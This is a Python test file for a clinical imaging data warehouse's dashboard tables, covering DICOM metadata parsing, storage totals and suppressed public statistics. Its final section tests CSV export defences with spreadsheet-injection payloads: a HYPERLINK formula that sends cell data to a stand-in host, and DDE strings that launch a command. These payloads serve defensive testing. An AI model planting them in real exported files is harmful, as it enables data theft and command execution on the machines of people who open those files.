"""Dashboard table builders (reference/clinical-data.md sections 1.2, 4, 4.1 and 5)."""

import csv
import datetime as dt
import io
import json
import re
from collections import Counter

import numpy as np
import pandas as pd
import pydicom
import pytest
from pydicom.datadict import tag_for_keyword

from warehouse.dashboard.cleaning import clean_patient_table, fill_from_dicom
from warehouse.dashboard.tables import (
    DICOM_FIELDS,
    PATIENT_ID_TAG,
    STORAGE_PREFIXES,
    STUDY_COLUMNS,
    choose_patient_file,
    flatten_clinical_record,
    metadata_row,
    patient_table,
    public_counts,
    public_statistics,
    storage_by_prefix,
    storage_table,
    study_table,
)

D = dt.date

# --- choosing a patient's file (1.2) --------------------------------------------------------


def test_choose_patient_file_positive_takes_latest_data_file():
    names = ["status_2021-02-15.json", "data_2021-03-01.json"]
    assert choose_patient_file(names) == (
        "data_2021-03-01.json",
        D(2021, 2, 15),
        D(2021, 3, 1),
        True,
    )


def test_choose_patient_file_newer_status_file_is_ignored_but_dated():
    names = ["data_2021-01-10.json", "data_2021-02-01.json", "status_2021-04-01.json"]
    chosen, earliest, latest, positive = choose_patient_file(names)
    assert chosen == "data_2021-02-01.json"
    assert (earliest, latest, positive) == (D(2021, 1, 10), D(2021, 4, 1), True)


def test_choose_patient_file_negative_takes_latest_status_file():
    names = ["status_2021-03-01.json", "status_2021-01-05.json", "status_2021-02-01.json"]
    assert choose_patient_file(names) == (
        "status_2021-03-01.json",
        D(2021, 1, 5),
        D(2021, 3, 1),
        False,
    )


def test_choose_patient_file_accepts_keys_and_ignores_other_names():
    names = [
        "training/data/Covid1/status_2021-02-15.json",
        "training/data/Covid1/data_2021-03-01.json",
        "training/data/Covid1/notes.txt",
        "training/data/Covid1/data_2021-99-01.json",
    ]
    assert choose_patient_file(names) == (
        "training/data/Covid1/data_2021-03-01.json",
        D(2021, 2, 15),
        D(2021, 3, 1),
        True,
    )


def test_choose_patient_file_without_valid_names():
    with pytest.raises(ValueError):
        choose_patient_file(["notes.txt"])


# --- flattening -----------------------------------------------------------------------------


def test_flatten_clinical_record_nested_values_win():
    record = {
        "Pseudonym": "Covid1",
        "Ethnicity": "A",
        "OtherDataSources": {"SegmentationData": {"Ethnicity": "CA", "Extra": 1}},
        "Age": 50,
    }
    flat = flatten_clinical_record(record)
    assert flat == {
        "Pseudonym": "Covid1",
        "Ethnicity": "CA",
        "OtherDataSources": {"SegmentationData": {"Ethnicity": "CA", "Extra": 1}},
        "Age": 50,
        "Extra": 1,
    }
    assert list(flat) == ["Pseudonym", "Ethnicity", "OtherDataSources", "Age", "Extra"]
    assert record["Ethnicity"] == "A"  # input untouched


@pytest.mark.parametrize(
    "other", [None, "text", {}, {"SegmentationData": None}, {"SegmentationData": [1]}]
)
def test_flatten_clinical_record_without_segmentation_data(other):
    record = {"Pseudonym": "Covid1", "OtherDataSources": other}
    assert flatten_clinical_record(record) == record


# --- patient table (4) ----------------------------------------------------------------------


def patient_rows():
    return [
        {
            **flatten_clinical_record(
                {
                    "Pseudonym": "Covid1",
                    "SubmittingCentre": "Centre A",
                    "FiO2": 21,
                    "OtherDataSources": {"SegmentationData": {"Ethnicity": "CA"}},
                }
            ),
            "filename_earliest_date": D(2021, 2, 15),
            "filename_covid_status": True,
            "filename_latest_date": D(2021, 3, 1),
            "last_modified": dt.datetime(2021, 3, 1, 10, 5, tzinfo=dt.UTC),
            "group": "training",
        },
        {
            "Pseudonym": "Covid2",
            "SwabStatus": 0,
            "SwabDate": "05/04/2020",
            "SubmittingCentre": "Centre B",
            "filename_earliest_date": D(2021, 2, 1),
            "filename_covid_status": False,
            "filename_latest_date": D(2021, 2, 1),
            "last_modified": "2021-02-02",
            "group": "validation",
        },
    ]


def test_patient_table_columns_and_values():
    table = patient_table(patient_rows())
    assert list(table.columns) == [
        "filename_earliest_date",
        "filename_covid_status",
        "filename_latest_date",
        "last_modified",
        "group",
        "Pseudonym",
        "SubmittingCentre",
        "FiO2",
        "OtherDataSources",
        "Ethnicity",
        "SwabStatus",
        "SwabDate",
    ]
    assert table["filename_earliest_date"].tolist() == [
        pd.Timestamp("2021-02-15"),
        pd.Timestamp("2021-02-01"),
    ]
    assert table["last_modified"].tolist() == [
        pd.Timestamp("2021-03-01"),
        pd.Timestamp("2021-02-02"),
    ]
    assert table["filename_covid_status"].tolist() == [True, False]
    assert table["group"].tolist() == ["training", "validation"]
    # JSON values kept as parsed: the integer stays an integer, the dict a dict
    assert table["FiO2"].tolist()[0] == 21 and isinstance(table["FiO2"].tolist()[0], int)
    assert table["OtherDataSources"].iloc[0] == {"SegmentationData": {"Ethnicity": "CA"}}
    assert table["Ethnicity"].iloc[0] == "CA"
    assert pd.isna(table["SwabDate"].iloc[0])
    assert str(table["filename_earliest_date"].dtype).startswith("datetime64")


def test_patient_table_csv_dates_are_plain_dates():
    text = patient_table(patient_rows()).to_csv(index=False)
    assert text.splitlines()[1].startswith("2021-02-15,True,2021-03-01,2021-03-01,training,")


def test_patient_table_empty():
    table = patient_table([])
    assert list(table.columns) == [
        "filename_earliest_date",
        "filename_covid_status",
        "filename_latest_date",
        "last_modified",
        "group",
    ]
    assert len(table) == 0


def test_patient_table_feeds_cleaning():
    clean = clean_patient_table(patient_table(patient_rows()))
    assert clean["fio2"].tolist()[0] == 21.0  # an integer 21 is 21 %, not "21.0" -> None
    assert clean["ethnicity"].tolist() == ["White", "Unknown"]
    assert clean["swabdate"].iloc[1] == pd.Timestamp("2020-04-05")


# --- DICOM JSON metadata (5) ----------------------------------------------------------------

STUDY = "1.3.6.1.4.1.11129.5.5.112507010803284478207522016832191866964708"
SERIES = "1.3.6.1.4.1.11129.5.5.112630850362182468372440828755218293352329"
SOP = "1.3.6.1.4.1.11129.5.5.110503645592756492463169821050252582267888"


def sample2_valid():
    """Like the reference's sample 2 (NIH chest X-ray), in valid DICOM JSON."""
    return {
        "00080016": {"vr": "UI", "Value": ["1.2.840.10008.5.1.4.1.1.7"]},
        "00080018": {"vr": "UI", "Value": [SOP]},
        "00080060": {"vr": "CS", "Value": ["DX"]},
        "00081030": {"vr": "LO", "Value": ["No Finding"]},
        "00100010": {"vr": "PN", "Value": [{"Alphabetic": "Covid0000"}]},
        "00100020": {"vr": "LO", "Value": ["Covid0000"]},
        "00100040": {"vr": "CS", "Value": ["M"]},
        "00101010": {"vr": "AS", "Value": ["81"]},
        "0020000D": {"vr": "UI", "Value": [STUDY]},
        "0020000E": {"vr": "UI", "Value": [SERIES]},
        "00280002": {"vr": "US", "Value": [1]},
        "00280004": {"vr": "CS", "Value": ["MONOCHROME2"]},
        "00280010": {"vr": "US", "Value": [1024]},
        "00280011": {"vr": "US", "Value": [1024]},
        "00280100": {"vr": "US", "Value": [8]},
        "00280101": {"vr": "US", "Value": [8]},
        "00280102": {"vr": "US", "Value": [7]},
        "00280103": {"vr": "US", "Value": [0]},
        "00283010": {"vr": "SQ"},
        "00291010": {"vr": "OB"},
        "00080030": {"vr": "TM"},
    }


def sample2_original():
    """The same file as the original loader wrote it: InlineBinary null, top-level null."""
    data = sample2_valid()
    data["00283010"] = None
    data["00291010"] = {"vr": "OB", "InlineBinary": None}
    return data


EXPECTED_SAMPLE2 = {
    "Pseudonym": "Covid0000",
    "PatientSex": "M",
    "PatientAge": "81",
    "StudyDate": None,
    "AcquisitionDate": None,
    "StudyInstanceUID": STUDY,
    "SeriesInstanceUID": SERIES,
    "BodyPartExamined": None,
    "Manufacturer": None,
    "ManufacturerModelName": None,
    "Modality": "DX",
}


def test_dicom_field_tags_match_pydicom_dictionary():
    for keyword, tag in {**DICOM_FIELDS, "PatientID": PATIENT_ID_TAG}.items():
        assert f"{tag_for_keyword(keyword):08X}" == tag


@pytest.mark.filterwarnings("ignore:Invalid value for VR AS")
def test_metadata_row_valid_form_is_valid_dicom_json():
    data = sample2_valid()
    ds = pydicom.Dataset.from_json(json.dumps(data))  # the valid form reads back as it is
    assert ds.PatientID == "Covid0000"
    assert metadata_row(data) == EXPECTED_SAMPLE2


def test_metadata_row_original_form():
    text = json.dumps(sample2_original())  # compact, one line, as the original wrote it
    assert '"00283010": null' in text and '"InlineBinary": null' in text
    assert metadata_row(json.loads(text)) == EXPECTED_SAMPLE2


def test_metadata_row_from_pydicom_dataset():
    ds = pydicom.Dataset()
    ds.PatientID = "Covid42"
    ds.PatientSex = "F"
    ds.PatientAge = "045Y"
    ds.StudyDate = "20200401"
    ds.AcquisitionDate = "20200402"
    ds.StudyInstanceUID = "1.2.3"
    ds.SeriesInstanceUID = "1.2.3.4"
    ds.BodyPartExamined = "CHEST"
    ds.Manufacturer = "ACME Imaging, Inc."
    ds.ManufacturerModelName = "X-1000"
    ds.Modality = "CT"
    ds.ImageType = ["ORIGINAL", "PRIMARY"]
    row = metadata_row(ds.to_json_dict())
    assert row == {
        "Pseudonym": "Covid42",
        "PatientSex": "F",
        "PatientAge": "045Y",
        "StudyDate": "20200401",
        "AcquisitionDate": "20200402",
        "StudyInstanceUID": "1.2.3",
        "SeriesInstanceUID": "1.2.3.4",
        "BodyPartExamined": "CHEST",
        "Manufacturer": "ACME Imaging, Inc.",
        "ManufacturerModelName": "X-1000",
        "Modality": "CT",
    }


@pytest.mark.parametrize(
    ("element", "value"),
    [
        ({"vr": "CS"}, ""),  # present without a value
        ({"vr": "CS", "Value": []}, ""),
        ({"vr": "CS", "Value": ["A", "B"]}, "A\\B"),
        ({"vr": "CS", "Value": ["M "]}, "M"),
        ({"vr": "CS", "Value": [None]}, ""),
        (None, None),  # top-level null
        ({"vr": "CS", "Value": "M"}, None),  # Value not a list
        ({"vr": "CS", "Value": [1]}, None),
        ({"vr": "CS", "Value": [{"Alphabetic": "x"}]}, None),
        ({"vr": "OB", "InlineBinary": None}, None),
        ({"vr": "OB", "InlineBinary": "AAAA"}, None),
        ("M", None),
        ([], None),
    ],
)
def test_metadata_row_malformed_values_are_missing(element, value):
    assert metadata_row({"00100040": element})["PatientSex"] == value


def test_metadata_row_lower_case_tags():
    row = metadata_row({"0020000d": {"vr": "UI", "Value": ["1.2"]}})
    assert row["StudyInstanceUID"] == "1.2"


def test_metadata_row_rejects_non_objects():
    with pytest.raises(TypeError):
        metadata_row(None)
    with pytest.raises(TypeError):
        metadata_row([])


# --- study tables ---------------------------------------------------------------------------


def study_row(pseudonym, study, group="training", **fields):
    row = dict.fromkeys(DICOM_FIELDS)
    row.update(Pseudonym=pseudonym, StudyInstanceUID=study, group=group, **fields)
    row.setdefault("last_modified", D(2021, 3, 1))
    return row


def test_study_table_columns_and_order():
    table = study_table(
        [
            {
                **metadata_row(sample2_original()),
                "group": "training",
                "last_modified": D(2021, 3, 1),
            },
            study_row("Covid1", "1.2", PatientAge="045Y", extra="ignored"),
        ]
    )
    assert list(table.columns) == list(STUDY_COLUMNS)
    assert list(STUDY_COLUMNS) == [
        "Pseudonym",
        "group",
        "last_modified",
        "PatientSex",
        "PatientAge",
        "StudyDate",
        "AcquisitionDate",
        "StudyInstanceUID",
        "SeriesInstanceUID",
        "BodyPartExamined",
        "Manufacturer",
        "ManufacturerModelName",
        "Modality",
    ]
    assert table["Pseudonym"].tolist() == ["Covid0000", "Covid1"]
    assert table["PatientAge"].tolist() == ["81", "045Y"]
    assert table["last_modified"].tolist() == [pd.Timestamp("2021-03-01")] * 2
    assert pd.isna(table["StudyDate"]).all()
    assert table["PatientAge"].dtype == "str"


def test_study_table_one_row_per_study():
    table = study_table(
        [
            study_row("Covid1", "1.2", SeriesInstanceUID="1.2.1"),
            study_row("Covid1", "1.2", SeriesInstanceUID="1.2.2"),
            study_row("Covid1", "1.3"),
            study_row("Covid1", None),
            study_row("Covid1", None),
        ]
    )
    assert table["StudyInstanceUID"].tolist()[:2] == ["1.2", "1.3"]
    assert table["SeriesInstanceUID"].tolist()[0] == "1.2.1"  # the first one found
    assert len(table) == 4  # rows without a study UID are all kept


def test_study_table_empty():
    table = study_table([])
    assert list(table.columns) == list(STUDY_COLUMNS) and len(table) == 0


# --- storage --------------------------------------------------------------------------------


def test_storage_by_prefix():
    items = [
        ("training/ct/Covid1/1/2/a.dcm", 100),
        ("training/ct-metadata/Covid1/1/2/a.json", 1),
        ("training/xray/Covid2/1/2/b.dcm", 20),
        ("training/mri/Covid3/1/2/c.dcm", 3000),
        ("training/data/Covid1/data_2021-03-01.json", 4),
        ("training/unknown/x.dcm", 5),
        ("training/ct", 7),  # no folder: counts for training/ only
        ("validation/xray/Covid9/1/2/d.dcm", 50),
        ("validation/data/Covid9/status_2021-03-01.json", 6),
        ("raw-site/2021-03-01/images/e.dcm", 999),
        ("config.json", 1),
        ("trainingx/ct/f.dcm", 8),
    ]
    assert storage_by_prefix(items) == {
        "training/ct/": 100,
        "training/xray/": 20,
        "training/mri/": 3000,
        "training/": 3137,
        "validation/ct/": 0,
        "validation/xray/": 50,
        "validation/mri/": 0,
        "validation/": 56,
    }
    assert list(storage_by_prefix(iter(items))) == list(STORAGE_PREFIXES)


def test_storage_by_prefix_is_one_pass():
    consumed = []

    def items():
        for item in [("training/ct/a", 1), ("training/b", 2)]:
            consumed.append(item)
            yield item

    assert storage_by_prefix(items())["training/"] == 3
    assert len(consumed) == 2


def test_storage_table():
    table = storage_table({"training/": 10, "validation/mri/": 3, "other/": 99})
    assert list(table.columns) == ["prefix", "storage"]
    assert table["prefix"].tolist() == list(STORAGE_PREFIXES)
    assert table["storage"].tolist() == [0, 0, 0, 10, 0, 0, 3, 0]
    assert table["storage"].dtype == "int64"
    assert table.to_csv(index=False).splitlines()[:2] == ["prefix,storage", "training/ct/,0"]


# --- public statistics (4.1) ----------------------------------------------------------------


def stats_inputs():
    patients = pd.DataFrame(
        {
            "Pseudonym": ["P1", "P2", "P3", "P4", "P5"],
            "group": ["training", "training", "training", "training", "validation"],
            "filename_covid_status": [True, False, True, False, True],
            "filename_earliest_date": pd.to_datetime(
                ["2021-03-01", "2021-02-01", "2021-03-05", "2021-01-01", "2021-03-10"]
            ),
            "SubmittingCentre": ["Centre A", "Centre B", "Centre A", np.nan, "Centre C"],
        }
    )
    xray = study_table(
        [
            study_row("P1", "s1"),
            study_row("P1", "s2"),
            study_row("P2", "s3"),
            study_row("P4", "s4"),
            study_row("P5", "s5", group="validation"),
        ]
    )
    ct = pd.DataFrame(
        {
            "Pseudonym": ["P1", "P1"],
            "group": ["training", "training"],
            "StudyInstanceUID": ["s6", "s6"],  # two series of one study
        }
    )
    storage = storage_table(
        {
            "training/ct/": 2_786_400_000_000,
            "training/xray/": 439_200_000_000,
            "training/mri/": 5_600_000_000,
            "training/": 3_309_000_000_000,
            "validation/": 999_000_000_000,
            "validation/ct/": 900_000_000_000,
        }
    )
    return patients, ct, xray, storage


def rows_of(text: str) -> list[tuple[str, str]]:
    """The rows of a statistics file, read with the csv module."""
    return [tuple(row) for row in csv.reader(io.StringIO(text, newline=""))]


def test_public_counts_by_hand():
    patients, ct, xray, storage = stats_inputs()
    now = dt.datetime(2021, 3, 20, 12, 0)
    counts = public_counts(patients, ct, xray, None, storage, now)
    # Training only. Imaged = {P1, P2, P4} (P5 is validation, P3 has no image).
    # Positive {P1, P3} -> 1 with images; negative {P2, P4} -> 2 with images.
    # Cutoff 2021-02-18 12:00: P1 (03-01) and P3 (03-05) are new; P5 is validation.
    assert counts["stats_patients.csv"] == [
        ("Total number of patients with images", "3"),
        ("Positive patients with images", "1"),
        ("Negative patients with images", "2"),
        ("New patients added in the last 30 days", "2"),
    ]
    # Distinct training studies: X-ray s1..s4 = 4, CT s6 = 1, MRI none = 0.
    assert counts["stats_images.csv"] == [
        ("Total number of image studies", "5"),
        ("X-ray image studies", "4"),
        ("CT image studies", "1"),
        ("MRI image studies", "0"),
    ]
    # 3309 GB total; CT 2786.4, X-ray 439.2, MRI 5.6; rest 3309 - 3231.2 = 77.8 -> 78.
    assert counts["stats_storage.csv"] == [
        ("Total image, image metadata, and clinical data storage", "3,309GB"),
        ("CT image storage", "2,786GB"),
        ("X-ray image storage", "439GB"),
        ("MRI image storage", "6GB"),
        ("Clinical data and image metadata export", "78GB"),
    ]
    # Centre A and Centre B (missing centre not counted, Centre C is validation).
    assert counts["stats_submittingcentres.csv"] == [("Submitting centres (e.g. NHS trusts)", "2")]


def test_public_statistics_by_hand_every_count_is_small():
    patients, ct, xray, storage = stats_inputs()
    files = public_statistics(patients, ct, xray, None, storage, dt.datetime(2021, 3, 20, 12))
    small = "fewer than 10"
    assert files["stats_patients.csv"] == (
        f"Total number of patients with images,{small}\r\n"
        f"Positive patients with images,{small}\r\n"
        f"Negative patients with images,{small}\r\n"
        f"New patients added in the last 30 days,{small}\r\n"
    )
    assert rows_of(files["stats_images.csv"]) == [
        ("Total number of image studies", small),
        ("X-ray image studies", small),
        ("CT image studies", small),
        ("MRI image studies", small),
    ]
    # Storage is not a count: as counted.
    assert files["stats_storage.csv"] == (
        '"Total image, image metadata, and clinical data storage","3,309GB"\r\n'
        'CT image storage,"2,786GB"\r\n'
        "X-ray image storage,439GB\r\n"
        "MRI image storage,6GB\r\n"
        "Clinical data and image metadata export,78GB\r\n"
    )
    assert (
        files["stats_submittingcentres.csv"] == f"Submitting centres (e.g. NHS trusts),{small}\r\n"
    )
    assert files["stats_date.txt"] == "This information was last updated on 20 March 2021."
    assert set(files) == {
        "stats_patients.csv",
        "stats_images.csv",
        "stats_storage.csv",
        "stats_submittingcentres.csv",
        "stats_date.txt",
    }


def test_public_statistics_thousands_and_csv_round_trip(tmp_path):
    n = 1234
    patients = pd.DataFrame(
        {
            "Pseudonym": [f"Covid{i}" for i in range(n)],
            "group": ["training"] * n,
            "filename_covid_status": [i % 2 == 0 for i in range(n)],
            "filename_earliest_date": ["2020-01-01"] * n,
            "SubmittingCentre": ["Centre A"] * n,
        }
    )
    xray = pd.DataFrame(
        {
            "Pseudonym": [f"Covid{i}" for i in range(n)],
            "group": ["training"] * n,
            "StudyInstanceUID": [f"1.2.826.0.1.{i}" for i in range(n)],
        }
    )
    # as the dashboard tables come back from CSV files
    patients.to_csv(tmp_path / "p.csv", index=False)
    xray.to_csv(tmp_path / "x.csv", index=False)
    files = public_statistics(
        pd.read_csv(tmp_path / "p.csv"),
        pd.DataFrame(),
        pd.read_csv(tmp_path / "x.csv"),
        None,
        {"training/": 1_500_000_000_000},
        dt.datetime(2023, 9, 5, tzinfo=dt.UTC),
    )
    assert files["stats_patients.csv"].splitlines() == [
        'Total number of patients with images,"1,234"',
        "Positive patients with images,617",
        "Negative patients with images,617",
        "New patients added in the last 30 days,fewer than 10",  # 0 is under 10 too
    ]
    # CT and MRI have no study: shown, the X-ray count would say so (1,234 - 1,234 = 0).
    assert files["stats_images.csv"].splitlines() == [
        'Total number of image studies,"1,234"',
        "X-ray image studies,suppressed",
        "CT image studies,fewer than 10",
        "MRI image studies,fewer than 10",
    ]
    assert files["stats_storage.csv"].splitlines()[-1] == (
        'Clinical data and image metadata export,"1,500GB"'
    )
    assert files["stats_date.txt"] == "This information was last updated on 5 September 2023."


def test_public_statistics_empty_warehouse():
    patients = patient_table([])
    files = public_statistics(
        patients, None, None, None, storage_table({}), dt.datetime(2024, 1, 1)
    )
    assert files["stats_patients.csv"].splitlines()[0] == (
        "Total number of patients with images,fewer than 10"
    )
    # all modalities tie at 0: CT, MRI, X-ray order kept
    assert public_counts(patients, None, None, None, None, dt.datetime(2024, 1, 1))[
        "stats_images.csv"
    ] == [
        ("Total number of image studies", "0"),
        ("CT image studies", "0"),
        ("MRI image studies", "0"),
        ("X-ray image studies", "0"),
    ]
    assert files["stats_images.csv"].splitlines() == [
        "Total number of image studies,fewer than 10",
        "CT image studies,fewer than 10",
        "MRI image studies,fewer than 10",
        "X-ray image studies,fewer than 10",
    ]
    assert files["stats_storage.csv"].splitlines()[0] == (
        '"Total image, image metadata, and clinical data storage",0GB'
    )
    assert files["stats_submittingcentres.csv"] == (
        "Submitting centres (e.g. NHS trusts),fewer than 10\r\n"
    )


def test_public_statistics_from_the_real_pipeline():
    rows = [
        {
            "Pseudonym": "Covid1",
            "SubmittingCentre": "Centre A",
            "Age": None,
            "Sex": "Unknown",
            "filename_earliest_date": D(2021, 3, 10),
            "filename_covid_status": True,
            "filename_latest_date": D(2021, 3, 10),
            "last_modified": D(2021, 3, 10),
            "group": "training",
        }
    ]
    xray = study_table([study_row("Covid1", "1.2", PatientAge="045Y", PatientSex="F")])
    clean = fill_from_dicom(clean_patient_table(patient_table(rows)), xray)
    assert clean["age_update"].iloc[0] == 45.0
    assert clean["sex_update"].iloc[0] == "F"
    counts = public_counts(clean, None, xray, None, None, dt.datetime(2021, 3, 20))
    assert counts["stats_patients.csv"][1] == ("Positive patients with images", "1")
    assert counts["stats_patients.csv"][3] == ("New patients added in the last 30 days", "1")


# --- every CSV file: formulas neutralised, rows and columns as in its Parquet twin -----------

#: What a spreadsheet runs as a formula (OWASP): a text cell starting with one of these.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_TEXTS = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "ACME\r=1+1",
    'two\nlines, a comma and a "quote"',
    "'=1+1",  # quoted already: the quote the writer adds must be the only one to undo
    "-5",  # text that looks like a negative number is still text
)


def hostile(index: int) -> str:
    return HOSTILE_TEXTS[index % len(HOSTILE_TEXTS)]


def hostile_batch():
    """A batch whose every text field from an uploader holds a formula or a line break."""
    from warehouse.dashboard.batch import build_batch
    from warehouse.dashboard.images import image_summary
    from warehouse.dashboard.pages import PageInputs
    from warehouse.dashboard.tables import CLINICAL_FIELDS

    now = dt.datetime(2021, 3, 20, 12, tzinfo=dt.UTC)
    patients = []
    for n in range(len(HOSTILE_TEXTS)):
        record = {field: hostile(n + i) for i, field in enumerate(sorted(CLINICAL_FIELDS))}
        record["Pseudonym"] = hostile(n)
        record["Age"] = -5 if n % 2 else 45.5  # numbers stay numbers, a negative one too
        record["OtherDataSources"] = {"SegmentationData": {"Ethnicity": hostile(n + 1)}}
        record["SwabDates"] = [{"SwabDate": hostile(n), "SwabStatus": hostile(n + 2)}]
        patients.append(
            {
                **flatten_clinical_record(record),
                "filename_earliest_date": D(2021, 3, 1),
                "filename_covid_status": n % 2 == 0,
                "filename_latest_date": D(2021, 3, 1),
                "last_modified": D(2021, 3, 2),
                "group": "training" if n % 3 else "validation",
            }
        )
    studies = {
        modality: [
            {
                **{field: hostile(n + i) for i, field in enumerate(DICOM_FIELDS)},
                "Pseudonym": hostile(n),
                "StudyInstanceUID": f"{hostile(n)}.{modality}.{n}",
                "group": "training",
                "last_modified": D(2021, 3, 2),
            }
            for n in range(len(HOSTILE_TEXTS))
        ]
        for modality in ("ct", "xray", "mri")
    }
    # The pages' counts of catalogued images: hostile values too (escaped on the page; the
    # catalogue itself is Parquet only, no CSV cell to neutralise).
    images = image_summary(
        Counter(
            {
                (
                    "training",
                    hostile(n),
                    D(2021, 3, 1),
                    hostile(n + 1),
                    hostile(n + 2),
                    hostile(n + 3),
                ): n + 1
                for n in range(len(HOSTILE_TEXTS))
            }
        )
    )
    study_images = {
        ("training", "xray", hostile(n), f"{hostile(n)}.xray.{n}", D(2021, 3, 2)): n + 1
        for n in range(len(HOSTILE_TEXTS))
    }
    sizes = {"training/": 10, "training/ct/": 3, "validation/": 4}
    return build_batch(
        patients, studies, sizes, now, study_images=study_images, inputs=PageInputs(images=images)
    )


def undone(cell: str) -> str:
    """A CSV cell's text as written before the writer's leading quote (test's own rule)."""
    if cell.startswith("'") and cell.lstrip("'")[:1] in FORMULA_STARTS:
        return cell[1:]
    return cell


NUMBER = re.compile(r"-?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?")


def check_cell(cell: str, value, where: str) -> None:
    """One CSV cell (read as text) against the same cell of the Parquet file."""
    if cell[:1] in FORMULA_STARTS:
        # Only a number may start like a formula, and a number is never quoted.
        assert NUMBER.fullmatch(cell), where
    if isinstance(value, np.ndarray | list):  # PixelSpacing: DICOM's backslash form
        assert [float(v) for v in cell.split("\\")] == list(value), where
    elif (
        value is None
        or value is pd.NA
        or value is pd.NaT
        or (isinstance(value, float) and np.isnan(value))
    ):
        assert cell == "", where
    elif isinstance(value, str):
        assert undone(cell) == value, where
    elif isinstance(value, bool | np.bool_):
        assert cell == str(bool(value)), where
    elif isinstance(value, int | np.integer | float | np.floating):
        assert float(cell) == float(value), where
    else:  # dates
        assert pd.Timestamp(cell) == pd.Timestamp(value), where


#: Text columns no uploader text reaches the start of: the layout's, the cleaning rules'
#: fixed vocabularies, and dicts and lists (their text starts with { or [).
NO_FORMULA_POSSIBLE = {
    *("group", "modality", "modality_folder", "prefix", "ethnicity", "sex"),
    *("pack_year_history", "smoking_status", "if_ckd_stage", "pmh_cvs_disease"),
    *("pmh_lung_disease", "cxr_severity", "cxr_severity_2", "covid_code", "covid_code_2"),
    *("1st_rt-pcr_result", "2nd_rt-pcr_result", "final_covid_status"),
    *("swabdates", "OtherDataSources", "SwabDates"),
}


def test_every_csv_reads_back_as_its_parquet_twin_with_formulas_neutralised():
    from warehouse.dashboard.batch import LATEST_KEY, batch_files, csv_bytes

    batch = hostile_batch()
    files = batch_files(batch)
    files[LATEST_KEY] = csv_bytes(batch.latest())
    assert set(batch.tables) == {
        "ct",
        "xray",
        "mri",
        "patient",
        "patient_clean",
        "storage",
        "study_images",
    }
    covered = set()
    for name in batch.tables:
        data = files[f"{batch.name}/{name}.csv"]
        from_csv = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
        from_parquet = pd.read_parquet(io.BytesIO(files[f"{batch.name}/{name}.parquet"]))
        assert from_csv.shape == from_parquet.shape, name
        assert [undone(c) for c in from_csv.columns] == list(from_parquet.columns), name
        for column in range(from_parquet.shape[1]):
            texts = from_csv.iloc[:, column].tolist()
            values = from_parquet.iloc[:, column].tolist()
            for row, (cell, value) in enumerate(zip(texts, values, strict=True)):
                check_cell(cell, value, f"{name}[{row}, {from_parquet.columns[column]!r}]")
                if isinstance(value, str) and value[:1] in FORMULA_STARTS:
                    covered.add((name, from_parquet.columns[column]))
        # The csv module reads the same rows.
        rows = list(csv.reader(io.StringIO(data.decode(), newline="")))
        assert len(rows) == len(from_parquet) + 1, name
    # Every text column an uploader fills held a formula (derived, fixed-vocabulary and
    # layout columns excepted).
    for name, table in batch.tables.items():
        for column in table.columns:
            values = pd.read_parquet(
                io.BytesIO(files[f"{batch.name}/{name}.parquet"]), columns=[column]
            )[column]
            if any(isinstance(v, str) for v in values) and (name, column) not in covered:
                assert column in NO_FORMULA_POSSIBLE, (name, column)
    # Numbers stay numbers: a negative number is read back as a number.
    assert pd.read_csv(io.BytesIO(files[f"{batch.name}/patient.csv"]))["Age"].tolist()[:2] == [
        45.5,
        -5,
    ]
    latest = pd.read_csv(io.BytesIO(files[LATEST_KEY]), dtype=str)
    assert latest["path"].tolist()[0] == f"{batch.name}/ct.csv"


def test_a_long_text_is_bounded_in_every_table_file_and_page():
    from warehouse.dashboard.batch import batch_files, build_batch

    centre = "+" + "x" * 5_000
    row = {
        "Pseudonym": "P1",
        "SubmittingCentre": centre,
        "filename_earliest_date": D(2021, 3, 1),
        "filename_covid_status": True,
        "filename_latest_date": D(2021, 3, 1),
        "last_modified": D(2021, 3, 2),
        "group": "training",
    }
    study = {"Pseudonym": "P1", "Manufacturer": "M" * 3_000, "StudyInstanceUID": "1.2"}
    batch = build_batch(
        [row],
        {"xray": [{**study, "group": "training", "last_modified": D(2021, 3, 2)}]},
        {},
        dt.datetime(2021, 3, 20, tzinfo=dt.UTC),
    )
    files = batch_files(batch)
    kept = "+" + "x" * 998 + "\u2026"  # 1,000 characters: 999 kept and an ellipsis
    for name in ("patient", "patient_clean"):
        parquet = pd.read_parquet(io.BytesIO(files[f"{batch.name}/{name}.parquet"]))
        assert parquet["SubmittingCentre"].tolist() == [kept]
        table = pd.read_csv(io.BytesIO(files[f"{batch.name}/{name}.csv"]), dtype=str)
        assert table["SubmittingCentre"].tolist() == ["'" + kept]
    xray = pd.read_parquet(io.BytesIO(files[f"{batch.name}/xray.parquet"]))
    assert xray["Manufacturer"].tolist() == ["M" * 999 + "\u2026"]
    assert "x" * 1_000 not in batch.pages["dashboard"]


def test_only_the_clinical_data_dictionary_fields_become_columns():
    from warehouse.dashboard.tables import CLINICAL_FIELDS, dictionary_fields

    record = {
        "Pseudonym": "Covid1",
        "=cmd|' /C calc'!A0": 1,
        "Fibrinogen  if d-dimer not performed": "2",  # two spaces, as the dictionary spells it
        "Fibrinogen if d-dimer not performed": "3",  # one: not a dictionary field
        "ITU admission ": 1,  # the schema sheet's trailing space
        "age": 40,  # field names are case-sensitive
    }
    fields, left_out = dictionary_fields(record)
    assert fields == {
        "Pseudonym": "Covid1",
        "Fibrinogen  if d-dimer not performed": "2",
        "ITU admission ": 1,
    }
    assert left_out == [
        "=cmd|' /C calc'!A0",
        "Fibrinogen if d-dimer not performed",
        "age",
    ]
    # every raw column a cleaning rule reads is a dictionary field
    for name in ("Ethnicity", "Sex", "Age", "SwabDate", "SwabDates", "FiO2", "Systolic BP"):
        assert name in CLINICAL_FIELDS


def test_a_cell_is_neutralised_by_its_start_only_whatever_its_column_holds():
    """Neutralise a cell by its start only: a formula after a line break inside it is none.

    A column of mixed values changes only its text cells that start like one or are long.
    """
    from warehouse.dashboard.cells import MAX_CELL_CHARS, csv_text

    long = "y" * (MAX_CELL_CHARS + 5)
    table = pd.DataFrame(
        {
            "mixed": ["ok", "two\n=lines", 3, None, 2.5],
            "starts": ["plain", "=1+1", 7, "x", None],
            "long": ["a", long, 1, "b", "c"],
            "text": pd.Series(["a", "b\n+c", "d", None, "e"], dtype="string"),
        }
    )
